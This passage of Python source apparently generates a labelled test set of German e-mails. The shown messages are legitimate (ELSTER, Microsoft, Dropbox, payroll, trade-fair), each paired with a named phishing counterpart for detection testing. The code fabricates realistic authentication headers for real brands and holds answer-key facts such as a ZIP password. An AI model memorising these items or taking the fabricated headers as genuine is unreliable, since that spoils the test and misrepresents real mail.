    hdrs = h_outlook(m, "Henrik Brandt <%s>" % S["ceo"].email, ["Claudia Vogt <%s>" % S["cfo"].email],
                     "Freigabe 2. Anzahlung Pomorze 41 (Vorgang 2026-BS-0187)", t, "CET", msgid,
                     cc=["Nils Petersen <%s>" % S["sales"].email], lang="de-DE")
    via_exchange(m, root, hdrs, sender_ip="10.20.14.31", srv="EXCH01")
    m.info = dict(charset="utf-8", cte="quoted-printable", structure="alternative(text, html)",
                  what="Internal: CEO asks CFO to release a scheduled down payment to the Polish boatbuilder",
                  why="Internal Exchange path (EXCH01 -> mail-int01), real CEO mailbox, refers to the contract in the DMS and the normal approval "
                      "workflow, tells her to take the bank details from the vendor master, no secrecy, colleague in Cc",
                  mirrors=["03-de-ceo-vertraulich.eml"],
                  differs="internal route and real address; references existing process; no secrecy; bank data from master data")
    return m


@message("business", "04-de-elster-postfach-echt.eml")
def b04():
    m = M("business", "04-de-elster-postfach-echt.eml")
    t = utc(2026, 10, 21, 4, 12, 55)
    env(m, t, S["cfo"].email, "noreply@elster.de")
    m.url("https://www.elster.de", "only link: portal start page")
    text = ("Sehr geehrte Nutzerin, sehr geehrter Nutzer,\n\n"
            "in Ihrem Benutzerkonto bei \"Mein ELSTER\" ist eine neue Nachricht eingegangen.\n\n"
            "Benutzerkonto: Example Yachting GmbH - Finanzbuchhaltung\n"
            "Art: Bescheid\n"
            "Eingang: %s\n\n"
            "Um die Nachricht abzurufen, melden Sie sich bitte wie gewohnt unter https://www.elster.de mit Ihrer Zertifikatsdatei "
            "oder Ihrem Sicherheitsstick an und öffnen Sie den Bereich \"Posteingang\".\n\n"
            "Aus Sicherheitsgründen enthält diese E-Mail keine Links zur Anmeldung und keine Anhänge. Bitte geben Sie Ihre "
            "Zugangsdaten niemals auf Seiten ein, die Sie über einen Link in einer E-Mail erreicht haben.\n\n"
            "Mit freundlichen Grüßen\nIhr ELSTER-Team\n\n"
            "Diese Nachricht wurde automatisch erstellt. Bitte antworten Sie nicht auf diese E-Mail.\n" % _de_date(t))
    root = Part("text/plain", text, charset="ISO-8859-1", cte="quoted-printable", quote_charset=False)
    msgid = "<%d.%d.%d.JavaMail.elster@elsterweb%02d>" % (m.r.randrange(10 ** 8, 10 ** 9), m.r.randrange(10, 99), int(epoch(t)) * 1000, m.r.randrange(1, 20))
    hdrs = [("Date", rfc_date(t, "CET")), ("From", "ELSTER <noreply@elster.de>"), ("To", S["cfo"].email),
            ("Message-ID", msgid), ("Subject", "=?ISO-8859-1?Q?Neue_Nachricht_in_Ihrem_ELSTER-Postfach?="),
            ("MIME-Version", "1.0"), ("MIME", None), ("Auto-Submitted", "auto-generated")]
    body = root.payload()
    r = m.r
    qid = postfix_qid(r, t)
    dv, bp = mta.dkim(r, "elster.de", "elster2025", "Date:From:To:Message-ID:Subject:MIME-Version:Content-Type", body,
                      t=int(epoch(t)), c="relaxed/relaxed")
    pre = [("DKIM-Signature", dv),
           ("Received", "from elsterweb%02d.intern.elster.de (elsterweb.intern.elster.de [172.24.11.%d])\r\n\tby mailout2.elster.de (Postfix) with ESMTP id %s\r\n\tfor <%s>; %s"
            % (r.randrange(1, 20), r.randrange(2, 250), qid, S["cfo"].email, rfc_date(t, "CET", "postfix")))]
    client = ("mailout2.elster.de", "mailout2.elster.de", "192.0.2.44", mta.TLS13_256)
    finish(m, root, dict(spf="pass", dkim=[("pass", "elster.de", "elster2025", bp, 2048)], dmarc=("pass", "reject", "elster.de")),
           pre, client, plus(t, 2), hdrs)
    m.info = dict(charset="ISO-8859-1", cte="quoted-printable", structure="text/plain",
                  what="ELSTER notification that a notice is waiting in the company's ELSTER mailbox",
                  why="Sent by ELSTER's own relay with aligned DKIM/SPF/DMARC, no attachment, no login link (only the portal start page), "
                      "tells the user to log in the usual way",
                  mirrors=["04-de-elster-html-anhang.eml"],
                  differs="no HTML attachment or form, no certificate request, authenticated elster.de")
    return m


@message("business", "05-de-microsoft-sicherheitsinfo.eml")
def b05():
    m = M("business", "05-de-microsoft-sicherheitsinfo.eml")
    t = utc(2026, 11, 2, 8, 55, 30)
    sender = "msonlineservicesteam@microsoftonline.com"
    env(m, t, S["assist"].email, sender)
    u1 = m.url("https://mysignins.microsoft.com/security-info", "real My Sign-ins page")
    u2 = "https://go.microsoft.com/fwlink/?LinkId=521839"
    html = """<!DOCTYPE html><html lang="de"><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"><title>Microsoft</title></head>
<body style="margin:0;padding:0;font-family:'Segoe UI',Tahoma,sans-serif;color:#323130">
<table role="presentation" width="100%%" cellpadding="0" cellspacing="0"><tr><td style="padding:24px 36px">
<table role="presentation" width="560" cellpadding="0" cellspacing="0">
<tr><td style="font-size:13px;color:#605e5c">Example Group</td></tr>
<tr><td style="padding-top:12px;font-size:28px;color:#2672ec">Ihre Sicherheitsinformationen wurden ge&auml;ndert</td></tr>
<tr><td style="padding-top:20px;font-size:14px;line-height:20px">Die folgenden Sicherheitsinformationen wurden dem Konto <b>sa*****@example.com</b> am 02.11.2026 um 09:54 (UTC+01:00) hinzugef&uuml;gt:</td></tr>
<tr><td style="padding-top:12px;font-size:14px"><b>Microsoft Authenticator</b> &ndash; Benachrichtigung (iPhone 15)</td></tr>
<tr><td style="padding-top:20px;font-size:14px;line-height:20px">Wenn Sie diese &Auml;nderung vorgenommen haben, m&uuml;ssen Sie nichts weiter tun.<br>
Wenn Sie diese &Auml;nderung nicht vorgenommen haben, wenden Sie sich sofort an Ihren Administrator und &uuml;berpr&uuml;fen Sie Ihre Sicherheitsinformationen unter <a href="%s" style="color:#2672ec">%s</a>.</td></tr>
<tr><td style="padding-top:28px;font-size:12px;color:#605e5c">Microsoft respektiert Ihre Privatsph&auml;re. Lesen Sie unsere <a href="%s" style="color:#2672ec">Datenschutzbestimmungen</a>.<br>
Microsoft Corporation, One Microsoft Way, Redmond, WA 98052</td></tr>
</table></td></tr></table></body></html>
""" % (u1, u1, u2)
    text = ("Example Group\n\nIhre Sicherheitsinformationen wurden geändert\n\n"
            "Die folgenden Sicherheitsinformationen wurden dem Konto sa*****@example.com am 02.11.2026 um 09:54 (UTC+01:00) hinzugefügt:\n\n"
            "Microsoft Authenticator - Benachrichtigung (iPhone 15)\n\n"
            "Wenn Sie diese Änderung vorgenommen haben, müssen Sie nichts weiter tun.\n"
            "Wenn Sie diese Änderung nicht vorgenommen haben, wenden Sie sich sofort an Ihren Administrator und überprüfen Sie Ihre "
            "Sicherheitsinformationen unter %s.\n\nMicrosoft respektiert Ihre Privatsphäre: %s\nMicrosoft Corporation, One Microsoft Way, Redmond, WA 98052\n" % (u1, u2))
    root = alt(text, html, "utf-8", "quoted-printable", m.boundary("generic"))
    msgid = "<%s@az.westeurope.microsoft.com>" % uuid4(m.r)
    hdrs = [("From", "Microsoft im Auftrag Ihrer Organisation <%s>" % sender), ("To", S["assist"].email),
            ("Subject", "=?utf-8?B?%s?=" % __import__("base64").b64encode("Ihre Sicherheitsinformationen wurden geändert".encode()).decode()),
            ("Date", rfc_date(t, "UTC", "std")), ("Message-ID", msgid), ("MIME-Version", "1.0"), ("MIME", None),
            ("X-MS-Exchange-Organization-AuthAs", "Anonymous")]
    body = root.payload()
    r = m.r
    dv, bp = mta.dkim(r, "microsoftonline.com", "selector1", "From:Date:Subject:Message-ID:Content-Type:MIME-Version:X-MS-Exchange-SenderADCheck", body, style="m365")
    host = "mail-%seur02on2%03d.outbound.protection.outlook.com" % ("db5", r.randrange(40, 130))
    ip = "40.107.%d.%s" % (21, host.split("2")[-1].split(".")[0].lstrip("0") if False else r.randrange(20, 250))
    pre = [("DKIM-Signature", dv),
           ("Received", "from AM0PR02MB%04d.eurprd02.prod.outlook.com (2603:10a6:208:%x::%x) by\r\n DB8PR02MB%04d.eurprd02.prod.outlook.com with Microsoft SMTP Server\r\n (version=TLS1_2, cipher=TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384) id\r\n 15.20.9301.21; %s"
            % (r.randrange(1000, 9999), r.randrange(4096), r.randrange(256), r.randrange(1000, 9999), rfc_date(t, "UTC", "ms")))]
    client = ("EUR02-DB5-obe.outbound.protection.outlook.com", host, ip, mta.TLS12)
    finish(m, root, dict(spf="pass", dkim=[("pass", "microsoftonline.com", "selector1", bp, 2048)],
                         dmarc=("pass", "reject", "microsoftonline.com")), pre, client, plus(t, 2), hdrs)
    m.info = dict(charset="utf-8", cte="quoted-printable", structure="alternative(text, html)",
                  what="Microsoft Entra notification that an Authenticator method was added to the CEO assistant's account",
                  why="Sent by Microsoft (EOP, DKIM microsoftonline.com, DMARC pass), informational only, no action requested, "
                      "links only to mysignins.microsoft.com and go.microsoft.com; matches the user's own MFA setup that morning",
                  mirrors=["05-de-mfa-quishing-pdf.eml"],
                  differs="authenticated Microsoft sender; no QR/PDF; no deadline; links to microsoft.com")
    return m


@message("business", "06-de-dropbox-werft-fotos.eml")
def b06():
    m = M("business", "06-de-dropbox-werft-fotos.eml")
    t = utc(2026, 12, 1, 9, 40, 12)
    env(m, t, S["fleet"].email, "bounces+%s@em.dropbox.com" % hexs(m.r, 12))
    link = m.url("https://www.dropbox.com/scl/fo/7q1m0z4k9x2v8c6b3n5p1/AJx2kQm9Vb7Wc4Lp0zTy8Rs?rlkey=5n8c2v0x7z4b1m9q3w6e8r2t1&st=0p7ks3dm&dl=0",
                  "Dropbox folder link with photos")
    html = """<!DOCTYPE html><html lang="de"><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"><title>Dropbox</title></head>
<body style="margin:0;padding:0;background:#f7f5f2">
<table width="100%%" cellpadding="0" cellspacing="0" role="presentation"><tr><td align="center" style="padding:32px 12px">
<table width="520" cellpadding="0" cellspacing="0" role="presentation" style="background:#ffffff;border-radius:8px;font-family:'Helvetica Neue',Helvetica,Arial,sans-serif;color:#1e1919">
<tr><td style="padding:32px 40px 8px"><img src="https://cfl.dropboxstatic.com/static/images/emails/glyph/glyph_34%%402x.png" width="34" height="34" alt="Dropbox"></td></tr>
<tr><td style="padding:8px 40px;font-size:20px;font-weight:600">Sven Ohlsen hat den Ordner &bdquo;Seeadler Unterwasserschiff 11-2026&ldquo; mit Ihnen geteilt</td></tr>
<tr><td style="padding:8px 40px;font-size:15px;line-height:22px;color:#52433d">&bdquo;Moin Jens, hier die 46 Fotos vom Unterwasserschiff nach dem Strahlen. Osmose ist weniger schlimm als bef&uuml;rchtet, Details im Angebot, das Dir Jan morgen per Mail schickt. Gru&szlig; Sven&ldquo;</td></tr>
<tr><td style="padding:24px 40px"><a href="%s" style="background:#0061fe;color:#ffffff;text-decoration:none;padding:12px 24px;border-radius:4px;font-size:15px;font-weight:600;display:inline-block">Ordner ansehen</a></td></tr>
<tr><td style="padding:8px 40px 32px;font-size:12px;color:#736c64">Viel Spa&szlig;!<br>Das Dropbox-Team</td></tr>
</table>
<p style="font-family:Helvetica,Arial,sans-serif;font-size:11px;color:#736c64;width:520px;line-height:16px">Sie haben diese E-Mail erhalten, weil Sven Ohlsen (s.ohlsen@hellwig-werft.de) einen Ordner mit Ihnen geteilt hat. <a href="https://www.dropbox.com/l/AAD1m4Kp7Qz0Wx9Vb2Nc5Lr8Ty3Hs6Jq4Ge/unsubscribe_from_shares" style="color:#736c64">Abmelden</a><br>Dropbox, Inc., PO Box 77767, San Francisco, CA 94107</p>
</td></tr></table></body></html>
""" % link
    text = ("Sven Ohlsen hat den Ordner „Seeadler Unterwasserschiff 11-2026“ mit Ihnen geteilt\n\n"
            "„Moin Jens, hier die 46 Fotos vom Unterwasserschiff nach dem Strahlen. Osmose ist weniger schlimm als befürchtet, "
            "Details im Angebot, das Dir Jan morgen per Mail schickt. Gruß Sven“\n\nOrdner ansehen: %s\n\nViel Spaß!\nDas Dropbox-Team\n" % link)
    root = alt(text, html, "utf-8", "quoted-printable", m.boundary("generic"))
    msgid = "<%s.%s@dropbox.com>" % (hexs(m.r, 32), hexs(m.r, 8))
    hdrs = [("Date", rfc_date(t, "UTC", "pad")),
            ("From", "=?utf-8?q?Sven_Ohlsen_=28=C3=BCber_Dropbox=29?= <no-reply@dropbox.com>"),
            ("Reply-To", "s.ohlsen@hellwig-werft.de"), ("To", S["fleet"].email), ("Message-ID", msgid),
            ("Subject", "=?utf-8?q?Sven_Ohlsen_hat_=E2=80=9ESeeadler_Unterwasserschiff_11-2026=E2=80=9C_mit?=\r\n =?utf-8?q?_Ihnen_geteilt?="),
            ("MIME-Version", "1.0"), ("MIME", None), ("X-Dropbox-Message-Type", "shared_content_notification"),
            ("X-Priority", "3"), ("Auto-Submitted", "auto-generated")]
    body = root.payload()
    r = m.r
    dv, bp = mta.dkim(r, "dropbox.com", "s1024-meo", "Content-Type:MIME-Version:Subject:Message-ID:To:Reply-To:From:Date",
                      body, t=int(epoch(t)), style="exim", bits=1024)
    pre = [("DKIM-Signature", dv),
           ("Received", "from dbx-mailer-%d.prod.corp.dropbox.com (localhost [127.0.0.1])\r\n\tby mail-%d.dropboxmail.com (Postfix) with ESMTP id %s\r\n\tfor <%s>; %s"
            % (r.randrange(10, 99), r.randrange(10, 99), postfix_qid(r, t), S["fleet"].email, rfc_date(t, "UTC", "abbr")))]
    ip = "162.125.%d.%d" % (r.choice([4, 6, 8]), r.randrange(10, 250))
    client = ("mail-%s.dropboxmail.com" % ip.replace(".", "-"), "mail-%s.dropboxmail.com" % ip.replace(".", "-"), ip, mta.TLS13_256)
    finish(m, root, dict(spf="pass", dkim=[("pass", "dropbox.com", "s1024-meo", bp, 1024)], dmarc=("pass", "reject", "dropbox.com")),
           pre, client, plus(t, 2), hdrs)
    m.info = dict(charset="utf-8", cte="quoted-printable", structure="alternative(text, html)",
                  what="Shipyard shares a folder of hull photos via Dropbox, the quote follows by e-mail",
                  why="Genuine Dropbox notification during working hours, photos (not a document that needs 'viewing' elsewhere), "
                      "consistent with the refit job and with the yard's habit of sending quotes as attachments",
                  mirrors=["06-de-dropbox-werft-kompromittiert.eml"],
                  differs="same platform and sender; content is photos, timing and wording consistent; no further login needed")
    return m


@message("business", "07-de-lohn-zip-passwort-sms.eml")
def b07():
    m = M("business", "07-de-lohn-zip-passwort-sms.eml")
    t = utc(2026, 11, 24, 13, 5, 44)
    sender = "u.kranz@kranz-partner-stb.de"
    K = CO["kranz"]
    env(m, t, S["hr"].email, sender)
    pw = "Kz#7mQ-2611-rT4p"
    m.passwords["Lohnunterlagen_Example_Yachting_2026-11.zip"] = pw
    m.fact("ZIP password", pw, "sent separately by SMS, NOT contained in the message (used only by the verifier)")
    lt, _ = local(t, "CET")

    def payroll_pdf(title, rows, cols):
        d = docs.notice({"Title": title, "Author": "DATEV eG", "Producer": "DATEV Druckausgabe 14.2", "CreationDate": pdf.pdf_date(lt)},
                        "Example Yachting GmbH", "Berater-Nr. 1184207 · Mandant 10417 · Abrechnungsmonat 11/2026", "#2E7D32",
                        [("h", title), ("table", (cols, rows, "R", 8.5, "B", ["l", "l", "r", "r"]))],
                        ["Kranz & Partner Steuerberatungsgesellschaft mbB · Ballindamm 6 · 20095 Hamburg"], logo="bar")
        return d.render()
    j = payroll_pdf("Lohnjournal November 2026", [["Gesamt", "Mitarbeiter Hamburg (38)", "186.412,50", "113.874,21"],
                                                  ["", "davon Aushilfen/Minijob (4)", "2.212,00", "2.212,00"],
                                                  ["", "Sonderzahlung Weihnachtsgeld", "41.300,00", "24.118,42"]],
                    [("Kst.", 60), ("Bezeichnung", 230), ("Brutto EUR", 95), ("Netto EUR", 98)])
    b = payroll_pdf("Beitragsnachweise Sozialversicherung 11/2026", [["TK", "Techniker Krankenkasse", "21.874,33", "fällig 25.11."],
                                                                      ["AOK", "AOK Rheinland/Hamburg", "9.412,10", "fällig 25.11."],
                                                                      ["BEK", "BARMER", "6.033,87", "fällig 25.11."]],
                    [("Kasse", 60), ("Einzugsstelle", 230), ("Beitrag EUR", 95), ("Fälligkeit", 98)])
    zipdata = containers.make_zip_encrypted([("Lohnjournal_2026-11.pdf", j), ("Beitragsnachweise_2026-11.pdf", b)], pw, m.r,
                                            dt=(2026, 11, 24, 13, 58, 0))
    paras = ["Liebe Frau Krüger,", "",
             "anbei wie besprochen die Lohnunterlagen für November 2026 (Lohnjournal und Beitragsnachweise). Die Datei ist "
             "verschlüsselt; das Kennwort sende ich Ihnen wie vereinbart gleich separat per SMS auf Ihr Diensthandy.", "",
             "Die Überweisungsdatei für die Nettolöhne liegt wie gewohnt in DATEV Unternehmen online zur Freigabe bereit. "
             "Bitte beachten Sie die Fälligkeit der SV-Beiträge am 25.11.", "",
             "Viele Grüße", "Ute Kranz", "",
             "Ute Kranz | Steuerberaterin", "Kranz & Partner Steuerberatungsgesellschaft mbB", "Ballindamm 6 | 20095 Hamburg",
             "T +49 40 300 48 27-12 | u.kranz@kranz-partner-stb.de", "Partnerschaftsregister AG Hamburg PR 1184"]
    text = "\n".join(paras) + "\n"
    html = outlook_html(paras, "DE")
    msgid = m.msgid_outlook(K.m365_server, K.m365_pod)
    bnd = outlook_bounds(msgid)
    root = mixed([alt(text, html, "iso-8859-1", "quoted-printable", bnd["alt"]),
                  att(zipdata, "application/x-zip-compressed", "Lohnunterlagen_Example_Yachting_2026-11.zip", t=t)], bnd["mixed"])
    hdrs = h_outlook(m, "Ute Kranz <%s>" % sender, ["=?iso-8859-1?Q?Melanie_Kr=FCger?= <%s>" % S["hr"].email],
                     "Lohnunterlagen 11/2026 Example Yachting GmbH (verschlüsselt)", t, "CET", msgid, lang="de-DE", date_utc=True)
    via_m365(m, root, hdrs, "kranz-partner-stb.de", K.tenant, K.m365_server, K.m365_pod, has_attach=True, client_lang="de",
             auth=lambda bp: dict(spf="pass", dkim=[("pass", "kranz-partner-stb.de", "selector1", bp, 2048)],
                                  dmarc=("pass", "reject", "kranz-partner-stb.de")))
    m.info = dict(charset="iso-8859-1", cte="quoted-printable", structure="mixed(alternative(text, html), encrypted ZIP with two PDFs)",
                  what="Tax adviser sends the monthly payroll documents as a password-protected ZIP; password goes by SMS",
                  why="Known adviser's M365 tenant with DKIM/DMARC pass, expected monthly document, password NOT in the mail (other channel), "
                      "ZIP holds two PDFs only",
                  mirrors=["07-de-passwort-zip-lnk.eml"],
                  differs="password delivered out of band; archive contains PDFs, not shortcuts; expected sender and timing")
    return m


@message("business", "08-de-messe-ausstellerverzeichnis.eml")
def b08():
    m = M("business", "08-de-messe-ausstellerverzeichnis.eml")
    t = utc(2026, 10, 30, 9, 15, 0)
    sender = "ausstellerservice@messe-duesseldorf.de"
    env(m, t, "info@example.com", "bounce-%s@mailing.messe-duesseldorf.de" % hexs(m.r, 10))
    u = m.url("https://www.boot.de/de/Aussteller/Ausstellerportal", "exhibitor portal")
    u2 = "https://mailing.messe-duesseldorf.de/c/%s" % alnum(m.r, 24)
    unsub = "https://mailing.messe-duesseldorf.de/u/%s" % alnum(m.r, 24)
    paras = ["Sehr geehrte Damen und Herren,",
             "vielen Dank für Ihre Anmeldung zur boot Düsseldorf 2027 (16.–24. Januar 2027). Ihr Stand: Halle 15, Stand C39.",
             "Ihr Eintrag im Online-Ausstellerverzeichnis ist im Standardumfang bereits in Ihrer Standmiete enthalten. "
             "Bitte prüfen Sie Firmenbeschreibung, Produktgruppen und Ansprechpartner bis zum 13.11.2026 im Ausstellerportal "
             "(Login mit Ihren bekannten Zugangsdaten). Änderungen nach diesem Datum können nicht mehr in den gedruckten Hallenplan übernommen werden.",
             "Hinweis: Wir erhalten aktuell Meldungen über Schreiben von privaten \"Registern\" und \"Messekatalogen\", die den Eindruck erwecken, "
             "im Auftrag der Messe Düsseldorf zu handeln. Die Messe Düsseldorf versendet keine Formulare zur Unterschrift für kostenpflichtige Verzeichniseinträge.",
             "Mit freundlichen Grüßen", "Ihr Ausstellerservice boot Düsseldorf"]
    html = ('<!DOCTYPE html><html lang="de"><head><meta charset="utf-8"><title>boot 2027</title></head><body style="margin:0;background:#eef2f5">'
            '<table width="100%" cellpadding="0" cellspacing="0" role="presentation"><tr><td align="center"><table width="600" cellpadding="0" cellspacing="0" '
            'style="background:#fff;font-family:Arial,Helvetica,sans-serif;font-size:14px;line-height:21px;color:#1a1a1a">'
            '<tr><td style="background:#003c71;color:#fff;padding:20px 30px;font-size:22px;font-weight:bold">boot Düsseldorf 2027 · Ausstellerservice</td></tr>'
            + "".join('<tr><td style="padding:10px 30px">%s</td></tr>' % esc(p) for p in paras[:3])
            + '<tr><td style="padding:10px 30px"><a href="%s" style="background:#e3001b;color:#fff;padding:10px 18px;text-decoration:none;font-weight:bold">Zum Ausstellerportal</a></td></tr>' % u2
            + "".join('<tr><td style="padding:10px 30px">%s</td></tr>' % esc(p) for p in paras[3:])
            + '<tr><td style="padding:20px 30px;font-size:11px;color:#666">Messe Düsseldorf GmbH · Messeplatz · 40474 Düsseldorf · Amtsgericht Düsseldorf HRB 63 · '
              '<a href="%s" style="color:#666">Abmelden</a></td></tr></table></td></tr></table>'
              '<img src="https://mailing.messe-duesseldorf.de/o/%s.gif" width="1" height="1" alt=""></body></html>' % (unsub, alnum(m.r, 20)))
    text = "\n\n".join(paras[:3]) + "\n\nZum Ausstellerportal: %s\n\n" % u + "\n\n".join(paras[3:]) + \
        "\n\nMesse Düsseldorf GmbH, Messeplatz, 40474 Düsseldorf\nAbmelden: %s\n" % unsub
    root = alt(text, html, "utf-8", "quoted-printable", m.boundary("javamail"), quote_cs=False)
    msgid = "<%s.%d@mailing.messe-duesseldorf.de>" % (hexs(m.r, 16), m.r.randrange(10 ** 6, 10 ** 7))
    hdrs = [("Date", rfc_date(t, "CET")), ("From", "boot Ausstellerservice <%s>" % sender), ("Reply-To", sender),
            ("To", "info@example.com"), ("Message-ID", msgid),
            ("Subject", "=?UTF-8?Q?boot_2027:_Ihr_Eintrag_im_Online-Ausstellerverzeichnis_=E2=80=93_bitte?=\r\n =?UTF-8?Q?_bis_13.11._pr=C3=BCfen?="),
            ("MIME-Version", "1.0"), ("MIME", None), ("List-Unsubscribe", "<%s>" % unsub),
            ("List-Unsubscribe-Post", "List-Unsubscribe=One-Click"), ("X-Mailer", "Inxmail Professional")]
    body = root.payload()
    r = m.r
    dv, bp = mta.dkim(r, "messe-duesseldorf.de", "inx2025", "From:To:Subject:Date:Message-ID:List-Unsubscribe:List-Unsubscribe-Post", body,
                      t=int(epoch(t)), c="relaxed/relaxed")
    pre = [("DKIM-Signature", dv)]
    client = ("mx-out-07.mailing.messe-duesseldorf.de", "mx-out-07.mailing.messe-duesseldorf.de", "192.0.2.87", mta.TLS13_256)
    finish(m, root, dict(spf="pass", dkim=[("pass", "messe-duesseldorf.de", "inx2025", bp, 2048)],
                         dmarc=("pass", "reject", "messe-duesseldorf.de")), pre, client, plus(t, 2), hdrs)
    m.info = dict(charset="utf-8", cte="quoted-printable", structure="alternative(text, html)",
                  what="Trade-fair organiser asks exhibitors to check their (included, free) directory entry in the exhibitor portal",
                  why="Authenticated messe-duesseldorf.de bulk mail with unsubscribe headers, refers to the booked stand, no form to sign, "
                      "no payment, even warns about register scams",
                  mirrors=["08-de-branchenregister-formular.eml"],
                  differs="real event the company exhibits at; entry included in booked stand; no signature or fee")
    return m
